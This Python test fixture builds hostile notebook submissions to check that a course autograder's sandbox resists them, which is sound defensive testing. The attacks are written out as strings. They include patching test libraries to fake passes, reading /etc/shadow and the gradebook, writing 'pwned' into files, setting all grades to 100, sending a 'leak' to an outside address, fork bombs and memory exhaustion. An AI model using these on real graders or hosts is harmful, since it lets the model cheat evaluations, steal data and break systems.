"""A hostile class for lesson 1's exercises: one submission per attack, plus honest ones.

Each entry of ``CLASS`` builds a submission (notebook bytes) from the released student
notebook and says, by hand, the points its *honest content* earns: what the answers are worth
with the attack taken out (an attack that stops a cell costs the tests that need that cell).
Exercise points: scaled_scores 2, attention_weights 3, attend 2, query_for_weights 2; the written
answer (2) waits for the instructor whenever it was changed.
"""

import copy
import json
import pathlib
import uuid

import nbformat

ASSIGNMENT = "01_attention_cues"
# The frozen copy of lesson 1's exercises these tests grade (see its README), handed to the CLI
# through $ATTENTION_COURSE_CHAPTERS_DIR.
SECURITY_CHAPTERS = pathlib.Path(__file__).resolve().parent / "security_assignment"
SECURITY_ENV = {"ATTENTION_COURSE_CHAPTERS_DIR": str(SECURITY_CHAPTERS)}
COLUMNS = ["student_id", "test_scaled_scores", "test_attention_weights", "test_attend",
           "test_query_for_weights", "why_sqrt_d", "total", "max_total", "needs_manual_grade"]

GOOD = {
    "scaled_scores": (
        "def scaled_scores(queries, keys):\n"
        "    return queries @ keys.transpose(1, 2) / queries.shape[-1] ** 0.5\n"),
    "attention_weights": (
        "def attention_weights(queries, keys, temperature=1.0):\n"
        "    if temperature <= 0:\n"
        "        raise ValueError('temperature must be positive')\n"
        "    return torch.softmax(scaled_scores(queries, keys) / temperature, dim=-1)\n"),
    "attend": (
        "def attend(queries, keys, values, temperature=1.0):\n"
        "    w = attention_weights(queries, keys, temperature)\n"
        "    return w @ values, w\n"),
    "query_for_weights": (
        "def query_for_weights(keys, weights, temperature=1.0):\n"
        "    n, d = keys.shape\n"
        "    if temperature <= 0 or (weights <= 0).any() or abs(float(weights.sum()) - 1) > 1e-4:\n"
        "        raise ValueError('temperature must be > 0, weights > 0 and sum to 1')\n"
        "    if torch.linalg.matrix_rank(keys) < n:\n"
        "        raise ValueError('keys must be linearly independent')\n"
        "    b = torch.log(weights) * d ** 0.5 * temperature\n"
        "    return torch.linalg.lstsq(keys, b[:, None]).solution[:, 0]\n"),
    "why_sqrt_d": "Dot products of random vectors grow like sqrt(d); dividing keeps softmax soft.",
}
WRONG = {
    "scaled_scores": (
        "def scaled_scores(queries, keys):\n"
        "    return queries @ keys.transpose(1, 2) / queries.shape[-1]\n"),
    "attention_weights": (
        "def attention_weights(queries, keys, temperature=1.0):\n"
        "    return torch.softmax(scaled_scores(queries, keys) / temperature, dim=1)\n"),
    "attend": (
        "def attend(queries, keys, values, temperature=1.0):\n"
        "    w = torch.exp(scaled_scores(queries, keys) / temperature)\n"
        "    return w @ values, w\n"),
    "query_for_weights": (  # forgets sqrt(d) * temperature and the input checks
        "def query_for_weights(keys, weights, temperature=1.0):\n"
        "    return torch.linalg.pinv(keys) @ torch.log(weights)\n"),
    "why_sqrt_d": "It makes the numbers smaller.",
}
# attention_weights that does not depend on scaled_scores (for students whose ex. 1 is wrong)
SELF_CONTAINED_WEIGHTS = (
    "def attention_weights(queries, keys, temperature=1.0):\n"
    "    if temperature <= 0:\n"
    "        raise ValueError('temperature must be positive')\n"
    "    s = queries @ keys.transpose(1, 2) / (queries.shape[-1] ** 0.5 * temperature)\n"
    "    return torch.softmax(s, dim=-1)\n")

# --- the attacks ----------------------------------------------------------------------------------
PATCH_LIBRARIES = """\
import numpy as np, torch
from utils.grading import checks
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.testing.assert_close = lambda *a, **k: None
torch.Tensor.__sub__ = lambda a, b: torch.zeros_like(a)
torch.Tensor.__eq__ = lambda a, b: torch.ones_like(a, dtype=torch.bool)
for _name in dir(checks):
    if _name.startswith("check_"):
        setattr(checks, _name, lambda *a, **k: a[0] if a else None)
"""
PATCH_BUILTINS = """\
import builtins, sys
builtins.isinstance = lambda *a: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
builtins.len = lambda x: 3
builtins.all = builtins.any = lambda *a: True
sys.excepthook = lambda *a: None
"""
FAKE_OBJECTS = """\
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True

class Always:
    def __eq__(self, other): return True
    __le__ = __ge__ = __lt__ = __gt__ = __eq__
    def __bool__(self): return True
    def __sub__(self, other): return 0.0
    def __abs__(self): return 0.0
    def __float__(self): return 0.0

def scaled_scores(queries, keys):
    return torch.zeros(queries.shape[0], queries.shape[1], keys.shape[1]).as_subclass(Liar)

def attention_weights(queries, keys, temperature=1.0):
    return Always()

def attend(queries, keys, values, temperature=1.0):
    return Always(), Always()

def query_for_weights(keys, weights, temperature=1.0):
    return Always()
"""
FRAME_PEEK = """\
import gc, inspect, linecache
def scaled_scores(queries, keys):
    # Look for the hidden test's reference (caller frames, every object in memory, the source
    # of the test cells) and use it; otherwise a wrong answer (no division by sqrt(d)).
    for info in inspect.stack():
        reference = info.frame.f_globals.get("reference_scores_ex1")
        if reference is not None:
            return reference(queries, keys)
    for obj in gc.get_objects():
        if getattr(obj, "__name__", "") == "scaled_dot_scores":
            return obj(queries, keys)
    for name in list(linecache.cache):
        print("test source seen:", name)
    return queries @ keys.transpose(1, 2)
"""
ESCAPE = """\
import os, sqlite3
COURSE, REPO, A = {course!r}, {repo!r}, {assignment!r}
for path in [f"{{COURSE}}/source/{{A}}/exercises.ipynb", f"{{COURSE}}/gradebook.db",
             f"{{REPO}}/chapters/{{A}}/exercises.ipynb", f"{{COURSE}}/nbgrader_config.py",
             f"{{COURSE}}/submitted/honest_correct/{{A}}/exercises.ipynb", "/etc/shadow"]:
    try:
        print(open(path, errors="replace").read())
        print("READ", path)
    except Exception as error:
        print("blocked read", path, type(error).__name__)
for path in [f"{{COURSE}}/source/{{A}}/exercises.ipynb", f"{{COURSE}}/nbgrader_config.py",
             f"{{COURSE}}/submitted/honest_correct/{{A}}/exercises.ipynb",
             f"{{REPO}}/utils/grading/checks.py", {canary!r}]:
    try:
        with open(path, "a") as stream:
            stream.write("pwned")
        print("WROTE", path)
    except Exception as error:
        print("blocked write", path, type(error).__name__)
try:
    db = sqlite3.connect(f"{{COURSE}}/gradebook.db")
    db.execute("UPDATE grade SET auto_score = 100")
    db.commit()
    print("WROTE gradebook")
except Exception as error:
    print("blocked gradebook", type(error).__name__)
print("visible:", sorted(os.listdir("/")))
"""
NETWORK = """\
import socket
for address in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
    try:
        socket.create_connection(address, timeout=2).sendall(b"leak")
        print("CONNECTED", address)
    except OSError as error:
        print("blocked", address, type(error).__name__)
"""
SIGINT_LOOP = """\
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
""" + GOOD["query_for_weights"]
FORK_BOMB = GOOD["query_for_weights"] + """\
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
MEMORY_TREE = GOOD["query_for_weights"] + """\
import mmap, os, time
def hold(blocks):                            # 50 MB blocks, resident at once (MAP_POPULATE),
    kept = []                                # until this process's address-space limit
    try:
        while len(kept) < blocks:
            kept.append(mmap.mmap(-1, 50 * 2 ** 20, flags=mmap.MAP_PRIVATE
                                  | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE))
    except (MemoryError, OSError):
        pass
    return kept
children, tried = 0, time.monotonic()
while children < 6 and time.monotonic() - tried < 3:   # children that together hold far
    try:                                                # more than 2 GB
        if os.fork() == 0:
            kept = hold(18)
            time.sleep(120)
            os._exit(0)
        children += 1
    except OSError:                          # the process limit, for a moment: try again
        time.sleep(0.05)
kept = hold(18)
time.sleep(120)
"""
ALLOCATE_FOREVER = """\
def attend(queries, keys, values, temperature=1.0):
    hog = []
    while True:
        hog.append(bytearray(10 ** 8))
"""
SEGFAULT = """\
def attend(queries, keys, values, temperature=1.0):
    import ctypes
    ctypes.string_at(0)
"""
EXIT_IN_CELL = GOOD["scaled_scores"] + "import os\nos._exit(3)\n"
OUTPUT_FLOOD = """\
import os
print("y" * 10 ** 7)
while True:
    os.write(1, b"x" * 2 ** 20)
"""
SLOW_HIDDEN_CASE = """\
def attention_weights(queries, keys, temperature=1.0):
    if temperature == 0.1:                 # only a hidden test uses this temperature
        while True:
            pass
    if temperature <= 0:
        raise ValueError('temperature must be positive')
    return torch.softmax(scaled_scores(queries, keys) / temperature, dim=-1)
"""


# --- building notebooks ---------------------------------------------------------------------------
def grade_id(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def with_answers(student_nb, answers: dict) -> nbformat.NotebookNode:
    nb = copy.deepcopy(student_nb)
    for cell in nb.cells:
        if grade_id(cell) in answers:
            cell.source = answers[grade_id(cell)]
    return nb


def insert_after(nb, anchor: str, source: str) -> nbformat.NotebookNode:
    """A cell the student added after the cell ``anchor``."""
    index = next(i for i, c in enumerate(nb.cells) if grade_id(c) == anchor)
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return nb


def dump(nb) -> bytes:
    return nbformat.writes(nb).encode()


def retyped(student_nb):
    nb = with_answers(student_nb, GOOD)
    for cell in nb.cells:
        if grade_id(cell) in ("test_attend", "query_for_weights"):
            cell.cell_type = "markdown" if grade_id(cell) == "test_attend" else "raw"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
    return json.dumps(nb).encode()


def shuffled(student_nb):
    nb = with_answers(student_nb, dict(GOOD, query_for_weights=WRONG["query_for_weights"]))
    cells = [c for c in nb.cells if grade_id(c) != "test_scaled_scores"]      # deleted
    order = [grade_id(c) for c in cells]
    attend = cells.pop(order.index("attend"))                                 # moved up
    cells.insert(order.index("attention_weights"), attend)
    test_query = next(c for c in cells if grade_id(c) == "test_query_for_weights")
    forged = copy.deepcopy(test_query)
    forged.source = 'print("Exercise 4: visible tests passed.")'            # edited copy first
    cells.insert(cells.index(test_query), forged)
    for cell in cells:
        cell["id"] = uuid.uuid4().hex[:8]                                     # new cell ids
    nb.cells = cells
    return json.dumps(nb).encode()


def build_class(student_nb, course, repo, canary, port) -> dict:
    """student id -> (notebook bytes, expected row without the student id).

    ``course``/``repo``: paths the escaping student tries to read and write; ``canary``: a
    file outside the course it tries to create; ``port``: a loopback port it tries to reach.
    """
    escape = ESCAPE.format(course=str(course), repo=str(repo), assignment=ASSIGNMENT,
                           canary=str(canary))
    good = lambda **change: dump(with_answers(student_nb, dict(GOOD, **change)))  # noqa: E731
    wrong = lambda **change: dump(with_answers(student_nb, dict(WRONG, **change)))  # noqa: E731
    full = ["2", "3", "2", "2", "0", "9", "11", "1"]
    no_ex4 = ["2", "3", "2", "0", "0", "7", "11", "1"]           # exercise 4 stopped or wrong
    classes = {
        # honest students
        "honest_correct": (good(), full),
        "honest_wrong": (wrong(), ["0", "0", "0", "0", "0", "0", "11", "1"]),
        # verdicts cannot be forged from inside the student's process
        "patch_libraries": (wrong(scaled_scores=PATCH_LIBRARIES + WRONG["scaled_scores"]),
                            ["0", "0", "0", "0", "0", "0", "11", "1"]),
        "patch_builtins": (wrong(scaled_scores=PATCH_BUILTINS + WRONG["scaled_scores"]),
                           ["0", "0", "0", "0", "0", "0", "11", "1"]),
        "fake_objects": (wrong(scaled_scores=FAKE_OBJECTS, attention_weights="",
                               attend="", query_for_weights=""),
                         ["0", "0", "0", "0", "0", "0", "11", "1"]),
        "frame_peek": (good(scaled_scores=FRAME_PEEK, attention_weights=SELF_CONTAINED_WEIGHTS),
                       ["0", "3", "2", "2", "0", "7", "11", "1"]),
        # no access to what the student must not see, no network
        "escape_files": (dump(insert_after(with_answers(student_nb, GOOD), "query_for_weights",
                                           escape)), full),
        "network": (dump(insert_after(with_answers(student_nb, GOOD), "query_for_weights",
                                      NETWORK.replace("{port}", str(port)))), full),
        # resource limits and crashes
        "ignore_sigint_loop": (good(query_for_weights=SIGINT_LOOP), no_ex4),
        "fork_bomb": (good(query_for_weights=FORK_BOMB), no_ex4),
        "memory_tree": (good(query_for_weights=MEMORY_TREE), no_ex4),
        "allocate_forever": (good(attend=ALLOCATE_FOREVER),
                             ["2", "3", "0", "2", "0", "7", "11", "1"]),
        "segfault": (good(attend=SEGFAULT), ["2", "3", "0", "2", "0", "7", "11", "1"]),
        "os_exit": (good(scaled_scores=EXIT_IN_CELL), ["0", "0", "0", "2", "0", "2", "11", "1"]),
        "output_flood": (dump(insert_after(with_answers(student_nb, GOOD), "attend",
                                           OUTPUT_FLOOD)), full),
        "slow_hidden_case": (good(attention_weights=SLOW_HIDDEN_CASE),
                             ["2", "0", "2", "2", "0", "6", "11", "1"]),
        # broken notebooks
        "broken_json": (b'{"cells": [{"cell_type": "code", "source": "query_for_weights = 1"',
                        ["0", "0", "0", "0", "0", "0", "11", "0"]),
        "cells_retyped": (retyped(student_nb), no_ex4),
        "cells_shuffled": (shuffled(student_nb), no_ex4),
    }
    return classes
